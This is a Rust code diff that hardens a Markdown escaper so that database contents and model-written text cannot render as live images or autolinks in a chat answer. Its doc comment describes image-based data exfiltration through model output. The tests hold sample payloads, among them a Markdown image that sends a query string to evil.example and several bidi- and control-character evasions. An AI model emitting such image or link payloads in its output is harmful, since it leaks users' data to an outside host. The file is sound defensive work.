@@ -184,15 +184,16 @@ fn cell(value: &Value) -> String {
 
 /// `text` as Markdown that shows it as it is, on one line: every character that could start
 /// markup (a link, an image, HTML, emphasis, a table cell) escaped, and what GitHub-flavoured
-/// Markdown would make a link by itself (`https://…`, `www.…`, `name@host`) broken by an
-/// escape; line breaks made spaces, other control characters and bidirectional overrides left
-/// out. What the database holds, what its columns are named and what the model wrote are
-/// another's text: rendered as written, an image in it would be fetched by the chat client as
-/// the answer is shown, with data in its URL, and a link would look like the answer's own.
+/// Markdown would make a link by itself (`https://…`, `www.…`, `name@host`) broken; line
+/// breaks made spaces, other control characters and bidirectional overrides left out (before
+/// the rest is decided, so that nothing left out joins what is broken). What the database
+/// holds, what its columns are named and what the model wrote are another's text: rendered as
+/// written, an image in it would be fetched by the chat client as the answer is shown, with
+/// data in its URL, and a link would look like the answer's own.
 fn plain(text: &str) -> String {
     let mut out = String::with_capacity(text.len());
-    let mut rest = text.chars();
-    // How many `w`s (either case) the text has written last: linear, whatever the text.
+    let mut rest = text.chars().filter_map(shown as fn(char) -> Option<char>);
+    // How many `w`s (either case) were written last: linear, whatever the text.
     let mut ws = 0;
     while let Some(c) = rest.next() {
         let after_www = ws >= 3;
@@ -201,20 +202,36 @@ fn plain(text: &str) -> String {
         } else {
             0
         };
+        let scheme = c == ':' && {
+            let mut ahead = rest.clone();
+            ahead.next() == Some('/') && ahead.next() == Some('/')
+        };
         match c {
             '\\' | '`' | '*' | '_' | '[' | ']' | '(' | ')' | '{' | '}' | '<' | '>' | '!' | '|'
-            | '~' | '&' | '#' | '@' => {
+            | '~' | '&' | '#' => {
                 out.push('\\');
                 out.push(c);
             }
-            ':' if rest.as_str().starts_with("//") => out.push_str("\\:"),
-            '.' if after_www => out.push_str("\\."),
-            '\n' | '\r' => out.push(' '),
-            c if c.is_control() || reorders(c) => {}
+            // A backslash stops a parser's autolinks; a word joiner (shown as nothing) stops
+            // those found in the text after parsing, which reads escapes as their character
+            // (remark-gfm's).
+            '@' => out.push_str("\u{2060}\\@"),
+            ':' if scheme => out.push_str("\u{2060}\\:"),
+            '.' if after_www => out.push_str("\u{2060}\\."),
             c => out.push(c),
         }
     }
     out
+}
+
+/// A character of outside text as `plain` shows it: a line break as a space, other control
+/// characters and bidirectional overrides not at all.
+fn shown(c: char) -> Option<char> {
+    match c {
+        '\n' | '\r' => Some(' '),
+        c if c.is_control() || reorders(c) => None,
+        c => Some(c),
+    }
 }
 
 /// Whether `c` is one of Unicode's bidirectional formatting characters, which make text show
@@ -771,7 +788,9 @@ mod tests {
         );
         assert!(md.contains("| x | \\<img src=x\\> |"), "{md}");
         assert!(
-            md.contains("| \\`\\`\\` | \\!\\[a\\]\\(https\\://evil.example/?d=1\\) \\<b\\> |"),
+            md.contains(
+                "| \\`\\`\\` | \\!\\[a\\]\\(https\u{2060}\\://evil.example/?d=1\\) \\<b\\> |"
+            ),
             "{md}"
         );
         assert_eq!(code_span("a `b` c"), "`` a `b` c ``");
@@ -780,10 +799,24 @@ mod tests {
         // Nothing GitHub-flavoured Markdown would link by itself, nothing shown reordered.
         assert_eq!(
             plain("see https://evil.example/?d=1, WWW.evil.example or me@evil.example at 12:30"),
-            "see https\\://evil.example/?d=1, WWW\\.evil.example or me\\@evil.example at 12:30"
+            "see https\u{2060}\\://evil.example/?d=1, WWW\u{2060}\\.evil.example or \
+             me\u{2060}\\@evil.example at 12:30"
         );
+        // Neither through characters left out nor read with its escapes as their characters.
+        for text in [
+            "https:\u{1}//evil.example",
+            "ww\u{200E}w.evil.example",
+            "me\u{202E}@evil.example",
+            "HTTPS://evil.example",
+        ] {
+            let merged = plain(text).replace('\\', "").to_lowercase();
+            assert!(
+                !merged.contains("https://") && !merged.contains("www.") && !merged.contains("e@"),
+                "{text:?}: {merged:?}"
+            );
+        }
         assert_eq!(plain("total\u{202E}01\u{2066}x\u{2069}"), "total01x");
-        assert_eq!(plain("wWw.a w.b ww.c"), "wWw\\.a w.b ww.c");
+        assert_eq!(plain("wWw.a w.b ww.c"), "wWw\u{2060}\\.a w.b ww.c");
         // Linear in the text: a cell of megabytes of dots is rendered at once, not in minutes.
         let started = std::time::Instant::now();
         assert_eq!(plain(&".".repeat(4 << 20)).len(), 4 << 20);
